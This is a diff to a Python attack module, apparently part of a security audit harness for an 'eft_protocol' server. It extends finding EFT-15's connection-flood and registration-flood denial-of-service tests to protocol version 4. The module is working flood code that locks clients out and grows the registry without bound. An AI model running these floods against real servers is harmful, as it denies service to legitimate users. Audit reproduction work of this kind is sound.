@@ -9,6 +9,11 @@ clients are refused. Success if a legitimate attempt failed while we held the fl
 ``--registrations N``: register N fresh names as fast as possible. Registration needs
 no proof of anything, so the registry (persistent on our server) grows without bound.
 Success if the server accepted them all.
+
+``--protocol 4``: the same floods; the legitimate client and the flood of names do a
+full version-4 registration (a fresh X25519 key each). The connection cap still cannot
+tell silent connections from clients that are slow to start, and registration is still
+open: version 4 adds no per-source limit, rate limit or enrollment token.
 """
 
 from __future__ import annotations
@@ -24,6 +29,7 @@ from eft_protocol.codes import RequestCode, ResponseCode
 from .common import AttackError, Out, ServerLink, address
 from .enumerate_names import probe
 from .framing import name_request
+from .v4 import add_protocol_argument, register
 
 FINDING = "EFT-15"
 SUMMARY = "connection flood locks clients out; registration flood grows the registry"
@@ -34,6 +40,7 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     parser.add_argument("--connections", type=int, default=0, help="silent connections to hold")
     parser.add_argument("--hold", type=float, default=5.0, help="seconds to hold them (5)")
     parser.add_argument("--registrations", type=int, default=0, help="names to register")
+    add_protocol_argument(parser)
 
 
 async def _silent(target: str, stop: asyncio.Event, stats: dict[str, int]) -> None:
@@ -54,8 +61,17 @@ async def _silent(target: str, stop: asyncio.Event, stats: dict[str, int]) -> No
             writer.close()
 
 
-async def _legitimate(target: str) -> bool:
+async def _legitimate(target: str, protocol: int = 3) -> bool:
     """What a new client does first; True if the server answered it."""
+    if protocol == 4:
+        try:
+            client, code = await asyncio.wait_for(
+                register(target, f"legit-{os.urandom(4).hex()}"), 3.0
+            )
+        except (AttackError, TimeoutError, OSError):
+            return False
+        await client.close()
+        return code == ResponseCode.REGISTERED
     try:
         link = await ServerLink.open(target, timeout=2.0)
     except AttackError:
@@ -80,7 +96,7 @@ async def connections(args: argparse.Namespace, out: Out) -> bool:
     probes = []
     deadline = time.monotonic() + args.hold
     while time.monotonic() < deadline:
-        probes.append(await _legitimate(args.target))
+        probes.append(await _legitimate(args.target, args.protocol))
         await asyncio.sleep(min(1.0, max(0.0, deadline - time.monotonic())))
     stop.set()
     await asyncio.gather(*tasks, return_exceptions=True)
@@ -98,7 +114,10 @@ async def connections(args: argparse.Namespace, out: Out) -> bool:
 async def registrations(args: argparse.Namespace, out: Out) -> bool:
     start = time.monotonic()
     prefix = f"flood-{os.urandom(3).hex()}"
-    codes = [(await probe(args.target, f"{prefix}-{i}"))[0] for i in range(args.registrations)]
+    codes = [
+        (await probe(args.target, f"{prefix}-{i}", args.protocol))[0]
+        for i in range(args.registrations)
+    ]
     accepted = codes.count(ResponseCode.REGISTERED)
     rate = accepted / max(time.monotonic() - start, 1e-6)
     return out.result(
